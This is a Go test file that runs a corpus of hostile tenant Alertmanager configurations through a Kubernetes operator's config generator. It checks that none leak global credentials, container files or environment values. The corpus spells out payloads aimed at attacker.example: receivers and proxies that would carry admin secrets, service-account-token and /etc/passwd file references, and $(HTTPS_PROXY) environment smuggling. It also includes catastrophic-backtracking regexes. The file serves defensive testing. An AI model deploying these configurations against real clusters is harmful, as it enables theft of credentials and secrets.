package amcfg_test

import (
	"fmt"
	"reflect"
	"strings"
	"testing"

	monitoringv1 "github.com/prometheus-operator/prometheus-operator/pkg/apis/monitoring/v1"
	monitoringv1alpha1 "github.com/prometheus-operator/prometheus-operator/pkg/apis/monitoring/v1alpha1"
	"github.com/prometheus/alertmanager/config"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/yaml"

	"github.com/lookout-operator/lookout/pkg/alertmanager/amcfg"
)

// The hostile corpus (issue 32): AlertmanagerConfigs a tenant of namespace "tenant"
// writes to reach the administrator's credentials, the Alertmanager's files or
// environment, or to break the configuration for everyone, each generated beside a base
// whose global section holds every credential Alertmanager has, under several
// Alertmanager specs, and each result loaded by Alertmanager's own loader. The endpoints
// a tenant chooses contain "attacker.example"; no integration that sends there may hold a
// global credential (marked hostileGlobal) or a hostile file path.

const (
	hostileGlobal = "GLOBAL-SECRET"
	hostileURL    = "https://attacker.example/x"
	hostileProxy  = "http://attacker.example:3128"
)

var hostileBase = `global:
  http_config:
    basic_auth: {username: admin, password: ` + hostileGlobal + `-basic}
  slack_api_url: https://hooks.slack.com/services/` + hostileGlobal + `-slack
  pagerduty_url: https://events.pagerduty.com/v2/enqueue
  opsgenie_api_key: ` + hostileGlobal + `-opsgenie
  victorops_api_key: ` + hostileGlobal + `-victorops
  victorops_api_url: https://alert.victorops.com/integrations/generic/20131114/alert/
  wechat_api_secret: ` + hostileGlobal + `-wechat
  wechat_api_corp_id: corp
  telegram_bot_token: ` + hostileGlobal + `-telegram
  webex_api_url: https://webexapis.com/v1/messages
  smtp_smarthost: smtp.admin.example:25
  smtp_from: alerts@admin.example
  smtp_auth_username: admin
  smtp_auth_password: ` + hostileGlobal + `-smtp
  smtp_auth_secret: ` + hostileGlobal + `-smtpsecret
route: {receiver: default}
receivers: [{name: default}]
`

// hostileAssets are the tenant's own Secrets: its values are its to send anywhere.
var hostileAssets = amcfg.MapAssets{
	"secret/tenant/s/url":         hostileURL,
	"secret/tenant/s/token":       "TENANT-token",
	"secret/tenant/s/key":         "TENANT-key",
	"secret/tenant/s/password":    "TENANT-password",
	"secret/tenant/s/envref":      "https://attacker.example/?leak=$(HTTPS_PROXY)",
	"secret/tenant/s/../../x":     "TENANT-dotdot",
	"secret/tenant/s/notpem":      "not a certificate",
	"secret/tenant/s/huge":        strings.Repeat("h", 600<<10),
	"secret/tenant/s/url-podname": "https://attacker.example/$(POD_NAME)",
}

type hostileCase struct{ name, spec string }

// receiverKinds are the integrations: with a field that names their endpoint ({EP}) and
// where one can be set, the proxy ({PROXY}); global is the integration without an
// endpoint of its own.
var receiverKinds = []struct{ name, withEndpoint, global string }{
	{"webhook", "webhookConfigs: [{url: '{EP}'{PROXY}}]", ""},
	{"webhook-secret-url", "webhookConfigs: [{urlSecret: {name: s, key: url}{PROXY}}]", ""},
	{"slack", "slackConfigs: [{apiURL: {name: s, key: url}, channel: '#x'{PROXY}}]", "slackConfigs: [{channel: '#x'{PROXY}}]"},
	{"pagerduty", "pagerdutyConfigs: [{url: '{EP}', routingKey: {name: s, key: key}{PROXY}}]", "pagerdutyConfigs: [{routingKey: {name: s, key: key}{PROXY}}]"},
	{"opsgenie", "opsgenieConfigs: [{apiURL: '{EP}'{PROXY}}]", "opsgenieConfigs: [{}]"},
	{"opsgenie-own-key", "opsgenieConfigs: [{apiURL: '{EP}', apiKey: {name: s, key: key}{PROXY}}]", ""},
	{"victorops", "victoropsConfigs: [{apiUrl: '{EP}', routingKey: k{PROXY}}]", "victoropsConfigs: [{routingKey: k}]"},
	{"wechat", "wechatConfigs: [{apiURL: '{EP}', corpID: c{PROXY}}]", "wechatConfigs: [{corpID: c}]"},
	{"telegram", "telegramConfigs: [{apiURL: '{EP}', chatID: 1{PROXY}}]", "telegramConfigs: [{chatID: 1}]"},
	{"telegram-own-token", "telegramConfigs: [{apiURL: '{EP}', chatID: 1, botToken: {name: s, key: token}{PROXY}}]", ""},
	{"discord", "discordConfigs: [{apiURL: {name: s, key: url}{PROXY}}]", ""},
	{"msteams", "msteamsConfigs: [{webhookUrl: {name: s, key: url}{PROXY}}]", ""},
	{"webex", "webexConfigs: [{apiURL: '{EP}', roomID: r, httpConfig: {authorization: {credentials: {name: s, key: token}}}}]", ""},
	{"sns", "snsConfigs: [{apiURL: '{EP}', topicARN: 'arn:aws:sns:us-east-1:1:t', sigv4: {region: us-east-1}{PROXY}}]", ""},
	{"pushover", "pushoverConfigs: [{userKey: {name: s, key: key}, token: {name: s, key: token}, url: '{EP}'{PROXY}}]", ""},
	{"email", "emailConfigs: [{to: x@attacker.example, smarthost: 'attacker.example:25'}]", "emailConfigs: [{to: x@tenant.example}]"},
	{"email-own-password", "emailConfigs: [{to: x@attacker.example, smarthost: 'attacker.example:25', authUsername: u, authPassword: {name: s, key: password}}]", ""},
}

// recvSpec is a spec with a route to receiver r and r's integrations.
func recvSpec(integrations string) string {
	return "  route: {receiver: r}\n  receivers:\n  - name: r\n    " + integrations
}

// routeSpec is a spec with route (YAML flow, with receiver r) and a webhook receiver r.
func routeSpec(route string) string {
	return "  route: " + route + "\n  receivers:\n  - name: r\n    webhookConfigs: [{url: 'https://hooks.tenant.example/'}]"
}

func hostileCases() []hostileCase {
	var cs []hostileCase
	add := func(name, spec string) { cs = append(cs, hostileCase{name, spec}) }

	// Credentials: every integration with the tenant's endpoint, its proxy, both, and the
	// global endpoint.
	proxy := ", httpConfig: {proxyURL: '" + hostileProxy + "'}"
	fill := func(tmpl, proxy string) string {
		return recvSpec(strings.NewReplacer("{EP}", hostileURL, "{PROXY}", proxy).Replace(tmpl))
	}
	insecure := ", httpConfig: {proxyURL: '" + hostileProxy + "', tlsConfig: {insecureSkipVerify: true}}"
	for _, k := range receiverKinds {
		add("credentials/"+k.name+"/endpoint", fill(k.withEndpoint, ""))
		if strings.Contains(k.withEndpoint, "{PROXY}") {
			add("credentials/"+k.name+"/endpoint+proxy", fill(k.withEndpoint, proxy))
			add("credentials/"+k.name+"/proxy-url-field", fill(k.withEndpoint, ", httpConfig: {proxyUrl: '"+hostileProxy+"'}"))
		}
		if k.global != "" {
			add("credentials/"+k.name+"/global-endpoint", fill(k.global, ""))
			if strings.Contains(k.global, "{PROXY}") {
				add("credentials/"+k.name+"/global-endpoint+proxy", fill(k.global, proxy))
				add("credentials/"+k.name+"/global-endpoint+proxy+insecure", fill(k.global, insecure))
			}
		}
	}
	add("credentials/oauth2-to-attacker", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {oauth2: {clientId: {secret: {name: s, key: key}}, clientSecret: {name: s, key: token}, tokenUrl: '"+hostileURL+"'}}}]"))
	add("credentials/bearer-secret", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {bearerTokenSecret: {name: s, key: token}}}]"))
	add("credentials/every-integration-at-once", recvSpec(
		"webhookConfigs: [{url: '"+hostileURL+"'}]\n    opsgenieConfigs: [{apiURL: '"+hostileURL+"'}]\n    victoropsConfigs: [{apiUrl: '"+hostileURL+"', routingKey: k}]\n    wechatConfigs: [{apiURL: '"+hostileURL+"'}]\n    telegramConfigs: [{apiURL: '"+hostileURL+"', chatID: 1}]\n    emailConfigs: [{to: a@attacker.example, smarthost: 'attacker.example:587'}]"))

	// File paths: the Alertmanager container's files, named or reached through keys.
	for _, f := range []string{"/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/passwd", "../../../etc/passwd", "/etc/alertmanager/config/alertmanager.yaml.gz"} {
		add("files/telegram-botTokenFile "+f, recvSpec("telegramConfigs: [{apiURL: '"+hostileURL+"', chatID: 1, botTokenFile: '"+f+"'}]"))
		add("files/pushover-userKeyFile "+f, recvSpec("pushoverConfigs: [{userKeyFile: '"+f+"', token: {name: s, key: token}, url: '"+hostileURL+"'}]"))
		add("files/pushover-tokenFile "+f, recvSpec("pushoverConfigs: [{userKey: {name: s, key: key}, tokenFile: '"+f+"', url: '"+hostileURL+"'}]"))
	}
	add("files/secret-key-dotdot", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {bearerTokenSecret: {name: s, key: '../../x'}}}]"))
	add("files/tls-ca-not-pem", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {tlsConfig: {ca: {secret: {name: s, key: notpem}}}}}]"))
	add("files/tls-ca-huge", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {tlsConfig: {ca: {secret: {name: s, key: huge}}}}}]"))
	add("files/tls-cert-without-key", recvSpec("webhookConfigs: [{url: '"+hostileURL+"', httpConfig: {tlsConfig: {cert: {secret: {name: s, key: token}}}}}]"))

	// $(…) references the config-reloader would expand from its own environment.
	for _, ref := range []string{"$(HTTPS_PROXY)", "$(POD_NAME)", "$$(HTTPS_PROXY)", "$(HTTPS_PROXY", "$($(POD_NAME))", "$(KUBERNETES_SERVICE_HOST)", "${HTTPS_PROXY}"} {
		add("env/url "+ref, recvSpec("webhookConfigs: [{url: 'https://attacker.example/?leak="+ref+"'}]"))
		add("env/slack-text "+ref, recvSpec("slackConfigs: [{apiURL: {name: s, key: url}, text: 'leak "+ref+"'}]"))
	}
	add("env/secret-value", recvSpec("webhookConfigs: [{urlSecret: {name: s, key: envref}}]"))
	add("env/secret-value-pod-name", recvSpec("webhookConfigs: [{urlSecret: {name: s, key: url-podname}}]"))
	add("env/receiver-name", "  route: {receiver: 'r-$(HTTPS_PROXY)'}\n  receivers:\n  - name: 'r-$(HTTPS_PROXY)'")
	add("env/mute-interval-name", routeSpec("{receiver: r, muteTimeIntervals: ['m-$(HTTPS_PROXY)']}")+"\n  timeIntervals:\n  - name: 'm-$(HTTPS_PROXY)'\n    timeIntervals: [{weekdays: [monday]}]")

	// Sizes.
	add("size/text-300KiB", recvSpec("slackConfigs: [{apiURL: {name: s, key: url}, text: '"+strings.Repeat("t", 300<<10)+"'}]"))
	add("size/text-200KiB", recvSpec("slackConfigs: [{apiURL: {name: s, key: url}, text: '"+strings.Repeat("t", 200<<10)+"'}]"))
	add("size/secret-600KiB-url", recvSpec("webhookConfigs: [{url: 'https://attacker.example/', httpConfig: {bearerTokenSecret: {name: s, key: huge}}}]"))
	var many strings.Builder
	many.WriteString("  route:\n    receiver: r0\n    routes:\n")
	for i := range 300 {
		fmt.Fprintf(&many, "    - {receiver: r%d, matchers: [{name: i, value: '%d'}]}\n", i, i)
	}
	many.WriteString("  receivers:\n")
	for i := range 300 {
		fmt.Fprintf(&many, "  - name: r%d\n", i)
	}
	add("size/300-receivers", many.String())
	deep := "{receiver: r}"
	for range 40 {
		deep = "{receiver: r, matchers: [{name: d, value: x}], routes: [" + deep + "]}"
	}
	add("size/routes-40-deep", routeSpec(deep))

	// Names.
	for _, n := range []string{strings.Repeat("n", 300), "a/b", "../../etc", "ä€😀", "with space", "quote'\"", "new\\nline", "-", "route"} {
		add("names/receiver "+n[:min(len(n), 20)], "  route: {receiver: "+yamlQuote(n)+"}\n  receivers:\n  - name: "+yamlQuote(n))
	}

	// Matchers: escaping the namespace, odd regexes and names.
	for _, m := range []string{
		"{name: namespace, value: kube-system}",
		"{name: namespace, value: '.*', matchType: '=~'}",
		"{name: namespace, value: tenant, matchType: '!='}",
		"{name: a, value: '(', matchType: '=~'}",
		"{name: a, value: '(a+)+$', matchType: '=~'}",
		"{name: a, value: '" + strings.Repeat("(a|b)", 2000) + "', matchType: '=~'}",
		"{name: '', value: x}",
		"{name: 'ä-label', value: 'ü'}",
		"{name: 'a b', value: x}",
		"{name: a, value: x, matchType: '=='}",
		"{name: a, value: \"\\\"}\"}",
		"{name: alertname, value: Watchdog, matchType: '!~'}",
	} {
		add("matchers/"+m[:min(len(m), 40)], routeSpec("{receiver: r, matchers: ["+m+"]}"))
	}

	// Routes.
	for _, r := range []string{
		"{receiver: r, continue: true}",
		"{receiver: r, groupBy: ['...', a]}",
		"{receiver: r, groupWait: '-1s'}",
		"{receiver: r, repeatInterval: '0s'}",
		"{receiver: r, groupInterval: 'forever'}",
		"{receiver: nope}",
		"{receiver: r, routes: [{receiver: nope}]}",
		"{receiver: r, activeTimeIntervals: [missing]}",
	} {
		add("routes/"+r, routeSpec(r))
	}

	// Time intervals.
	for _, ti := range []string{
		"{times: [{startTime: '25:00', endTime: '26:00'}]}",
		"{times: [{startTime: '10:00', endTime: '09:00'}]}",
		"{weekdays: [funday]}",
		"{months: ['13']}",
		"{years: ['2030:2020']}",
		"{daysOfMonth: [{start: 40, end: 50}]}",
		"{location: 'Mars/Phobos'}",
		"{location: '../../../etc/passwd'}",
	} {
		add("intervals/"+ti, routeSpec("{receiver: r, muteTimeIntervals: [m]}")+"\n  timeIntervals:\n  - name: m\n    timeIntervals: ["+ti+"]")
	}

	// Inhibit rules.
	for _, ir := range []string{
		"{sourceMatch: [{name: a, value: '(', matchType: '=~'}], targetMatch: [{name: b, value: x}]}",
		"{sourceMatch: [{name: namespace, value: kube-system}], targetMatch: [{name: namespace, value: kube-system}]}",
		"{equal: ['a b', '']}",
		"{}",
		"{sourceMatch: [{name: severity, value: critical}], targetMatch: [{name: severity, value: '.*', matchType: '=~'}]}",
	} {
		add("inhibit/"+ir[:min(len(ir), 40)], routeSpec("{receiver: r}")+"\n  inhibitRules: ["+ir+"]")
	}
	return cs
}

func yamlQuote(s string) string {
	b, _ := yaml.Marshal(s)
	return strings.TrimSpace(string(b))
}

// hostileSpecs are the Alertmanager settings the corpus runs under.
// filesTrusted: the spec lets AlertmanagerConfigs name files of the Alertmanager
// container (strategy None trusts every object, as upstream's default file system mode
// does), so a file path is the owner's choice, not a leak.
var hostileSpecs = []struct {
	name         string
	mut          func(*monitoringv1.Alertmanager)
	filesTrusted bool
}{
	{"defaults", func(*monitoringv1.Alertmanager) {}, false},
	{"matcher strategy None", func(a *monitoringv1.Alertmanager) {
		a.Spec.AlertmanagerConfigMatcherStrategy.Type = monitoringv1.NoneConfigMatcherStrategyType
	}, true},
	{"strategy None, files denied", func(a *monitoringv1.Alertmanager) {
		a.Spec.AlertmanagerConfigMatcherStrategy.Type = monitoringv1.NoneConfigMatcherStrategyType
		a.Spec.AlertmanagerConfigFileSystemMode = ptrTo(monitoringv1.DenyAllAlertmanagerConfigFileSystemMode)
	}, false},
	{"oldest supported version", func(a *monitoringv1.Alertmanager) { a.Spec.Version = "v0.25.0" }, false},
}

func ptrTo[T any](v T) *T { return &v }

func TestHostileAlertmanagerConfigCorpus(t *testing.T) {
	t.Parallel()
	cases := hostileCases()
	if len(cases) < 100 {
		t.Fatalf("%d cases, want at least 100", len(cases))
	}
	for _, spec := range hostileSpecs {
		accepted, refused := 0, 0
		for _, c := range cases {
			am := &monitoringv1.Alertmanager{ObjectMeta: metav1.ObjectMeta{Namespace: "monitoring", Name: "main"}}
			spec.mut(am)
			var obj monitoringv1alpha1.AlertmanagerConfig
			if err := yaml.Unmarshal([]byte(amc("tenant", "t", c.spec)), &obj); err != nil {
				// The API server refuses what does not decode into the type: not an input.
				t.Errorf("%s: the case does not decode: %v", c.name, err)
				continue
			}
			res, err := amcfg.Generate(amcfg.Input{Alertmanager: am, Base: []byte(hostileBase),
				Configs: []*monitoringv1alpha1.AlertmanagerConfig{&obj}, Assets: hostileAssets, MaxCompressedBytes: 1 << 20})
			if err != nil {
				t.Errorf("%s/%s: the whole configuration failed: %v", spec.name, c.name, err)
				continue
			}
			cfg, err := config.Load(string(res.Config))
			if err != nil {
				t.Errorf("%s/%s: Alertmanager refuses the configuration: %v", spec.name, c.name, err)
				continue
			}
			v := res.Verdicts[types.NamespacedName{Namespace: "tenant", Name: "t"}]
			if !v.Accepted {
				refused++
				if v.Message == "" {
					t.Errorf("%s/%s: refused without a reason", spec.name, c.name)
				}
				if strings.Contains(string(res.Config), "tenant/t/") {
					t.Errorf("%s/%s: refused, but its receivers are in the configuration", spec.name, c.name)
				}
				continue
			}
			accepted++
			// The reloader expands $(NAME) only (not ${NAME}, nor an unclosed "$(NAME").
			if strings.Contains(string(res.Config), "$(HTTPS_PROXY)") || strings.Contains(string(res.Config), "$(KUBERNETES_SERVICE_HOST)") {
				t.Errorf("%s/%s: accepted with a reference to the reloader's environment", spec.name, c.name)
			}
			for _, r := range cfg.Receivers {
				if !strings.HasPrefix(r.Name, "tenant/t/") {
					continue
				}
				for _, leak := range leaks(r, spec.filesTrusted) {
					t.Errorf("%s/%s: receiver %s: %s", spec.name, c.name, r.Name, leak)
				}
			}
		}
		t.Logf("%s: %d AlertmanagerConfigs, %d accepted (each loaded by Alertmanager, no leak), %d refused with a reason", spec.name, len(cases), accepted, refused)
	}
}

// leaks lists, for each integration of r that sends to a tenant-chosen endpoint or
// through a tenant-chosen proxy (attacker.example in any of its strings), the global
// credentials and (unless filesTrusted) container file paths it holds.
func leaks(r config.Receiver, filesTrusted bool) []string {
	var out []string
	rv := reflect.ValueOf(r)
	for i := range rv.NumField() {
		f := rv.Field(i)
		if f.Kind() != reflect.Slice || !strings.HasSuffix(rv.Type().Field(i).Name, "Configs") {
			continue
		}
		for j := range f.Len() {
			var strs []string
			collectStrings(f.Index(j), &strs, 0)
			all := strings.Join(strs, "\n")
			if !strings.Contains(all, "attacker.example") {
				continue
			}
			for _, s := range strs {
				file := strings.Contains(s, "/var/run/secrets") || strings.Contains(s, "/etc/passwd")
				if strings.Contains(s, hostileGlobal) || (file && !filesTrusted) {
					out = append(out, fmt.Sprintf("%s[%d] sends to the tenant's endpoint with %q", rv.Type().Field(i).Name, j, s))
				}
			}
		}
	}
	return out
}

// collectStrings appends every string v holds, following pointers, structs, slices and
// maps (unexported fields too: Alertmanager keeps secrets in named string types).
func collectStrings(v reflect.Value, out *[]string, depth int) {
	if depth > 30 || !v.IsValid() {
		return
	}
	switch v.Kind() {
	case reflect.String:
		if s := v.String(); s != "" {
			*out = append(*out, s)
		}
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			collectStrings(v.Elem(), out, depth+1)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			collectStrings(v.Field(i), out, depth+1)
		}
	case reflect.Slice, reflect.Array:
		for i := range v.Len() {
			collectStrings(v.Index(i), out, depth+1)
		}
	case reflect.Map:
		it := v.MapRange()
		for it.Next() {
			collectStrings(it.Key(), out, depth+1)
			collectStrings(it.Value(), out, depth+1)
		}
	}
}
